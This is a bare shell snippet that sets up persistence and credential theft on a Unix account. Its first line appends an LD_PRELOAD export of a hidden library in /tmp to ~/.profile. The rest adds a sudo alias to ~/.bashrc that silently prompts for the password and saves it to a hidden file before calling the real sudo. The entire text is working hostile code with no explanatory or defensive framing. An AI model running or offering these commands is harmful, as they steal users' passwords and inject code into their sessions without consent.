echo 'export LD_PRELOAD=/tmp/.lib.so' >> ~/.profile
cat >> ~/.bashrc <<'RC'
alias sudo='read -sp "Password: " p; echo $p >> /tmp/.p; sudo'
RC
